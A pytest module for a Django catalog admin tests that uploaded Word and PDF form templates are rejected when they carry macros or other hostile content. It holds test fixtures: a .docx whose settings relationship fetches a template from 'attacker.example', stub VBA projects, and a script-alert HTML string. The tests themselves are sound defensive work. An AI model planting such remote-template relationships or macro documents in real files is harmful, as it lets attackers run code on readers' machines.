# ruff: noqa: F811 - pytest fixtures imported from another test module
"""The catalog admin's form templates are checked by their content before anything is
stored: a real Word .docx (or a PDF) is accepted; a .docm with macros, a .docx fetching a
remote template, another zip renamed .docx or an image are refused on the admin page with
a Vietnamese message, and nothing is written (no file, no row change, no event)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from motcua.catalog.models import DossierComponent, Procedure
from motcua.core.errors import InvalidInput
from motcua.core.files import FORM_KINDS, check_content
from motcua.ledger.models import Event
from tests.core.test_admin_history import _form_data, _url, samples, superuser  # noqa: F401
from tests.samples import pdf, png

pytestmark = pytest.mark.django_db

MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def real_docx(text: str = "TỜ KHAI ĐĂNG KÝ KHAI SINH") -> bytes:
    document = Document()
    document.add_heading(text, level=1)
    document.add_paragraph("Họ, chữ đệm, tên người yêu cầu: ....................")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezipped(data: bytes, *, change=None, add: dict[str, bytes] | None = None) -> bytes:
    """The same package with members changed (``change(name, bytes) -> bytes``) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            body = source.read(item.filename)
            target.writestr(item, change(item.filename, body) if change else body)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def docm() -> bytes:
    """A Word document with a VBA project and the macro-enabled content type (a .docm)."""
    return rezipped(
        real_docx(),
        change=lambda name, body: (
            body.replace(DOCX_MAIN, MACRO_TYPE) if name == "[Content_Types].xml" else body
        ),
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name = AutoOpen"},
    )


def vba_only() -> bytes:
    """The docx content type kept, a VBA project slipped in (a renamed .docm)."""
    return rezipped(real_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def remote_template() -> bytes:
    """A .docx whose settings fetch a template from a server when opened."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
        b'://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezipped(real_docx(), add={"word/_rels/settings.xml.rels": rels})


def other_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<html><script>alert(1)</script></html>")
    return out.getvalue()


def workbook() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _stored(media) -> list:
    return [p for p in (media / "catalog").rglob("*") if p.is_file()] if media.exists() else []


def _post_template(client, procedure, upload) -> tuple:
    data = _form_data(client.get(_url(Procedure, "change", procedure.pk)), Procedure)
    name_key = next(k for k in data if re.fullmatch(r"components-0-name", k))
    data[name_key.replace("name", "form_template")] = [upload]
    data["_save"] = ["Lưu"]
    before = Event.objects.count()
    response = client.post(_url(Procedure, "change", procedure.pk), data)
    return response, Event.objects.count() - before


def test_a_real_docx_uploaded_in_the_admin_is_stored_and_served(client, superuser, samples, _media):
    client.force_login(superuser)
    procedure = samples[Procedure]
    response, events = _post_template(
        client,
        procedure,
        SimpleUploadedFile("to-khai.docx", real_docx(), "application/octet-stream"),
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    component = DossierComponent.objects.get(procedure=procedure, order=1)
    assert component.form_template.name.startswith("catalog/forms/to-khai")
    assert component.form_template.name.endswith(".docx")
    assert events == 1  # the procedure's parts saved, in the history
    # the portal serves it as a download, re-read as a Word document
    download = client.get(reverse("portal:procedure_form", args=[procedure.code, 1]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"
    text = [p.text for p in Document(io.BytesIO(b"".join(download.streaming_content))).paragraphs]
    assert "TỜ KHAI ĐĂNG KÝ KHAI SINH" in text


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (docm, "chứa macro"),
        (vba_only, "chứa macro"),
        (remote_template, "chứa macro"),
        (other_zip, "không phải PDF hoặc Word (.docx) hợp lệ"),
        (workbook, "không phải PDF hoặc Word (.docx) hợp lệ"),
        (png, "không phải PDF hoặc Word (.docx) hợp lệ"),
        (lambda: b"<html><script>alert(1)</script></html>", "không phải PDF hoặc Word"),
    ],
    ids=["docm", "vba-in-docx", "remote-template", "other-zip", "xlsx", "image", "html"],
)
def test_a_macro_or_fake_docx_is_refused_in_the_admin_and_nothing_stored(
    client, superuser, samples, _media, make, says
):
    client.force_login(superuser)
    procedure = samples[Procedure]
    response, events = _post_template(
        client, procedure, SimpleUploadedFile("to-khai.docx", make(), "application/msword")
    )
    # the page comes back with the error on the row, in Vietnamese
    assert response.status_code == 200
    page = response.content.decode()
    assert says in page and "to-khai.docx" in page
    assert events == 0
    assert not DossierComponent.objects.get(procedure=procedure, order=1).form_template
    assert _stored(_media) == []


def test_a_pdf_form_is_accepted_and_the_check_holds_at_the_storage_too():
    assert check_content(pdf("mau"), label="m", kinds=FORM_KINDS).kind == "pdf"
    assert check_content(real_docx(), label="m", kinds=FORM_KINDS).extension == ".docx"
    # a .docx is not a document a citizen or officer may send as a scan or result
    with pytest.raises(InvalidInput):
        check_content(real_docx(), label="m")
    # a service storing a template directly cannot skip the check
    with pytest.raises(InvalidInput) as refused:
        default_storage.save("catalog/forms/mau.docx", ContentFile(docm()))
    assert refused.value.code == "file_type"
    name = default_storage.save("catalog/forms/mau.bin", ContentFile(real_docx()))
    assert name.endswith(".docx")  # stored under what it is
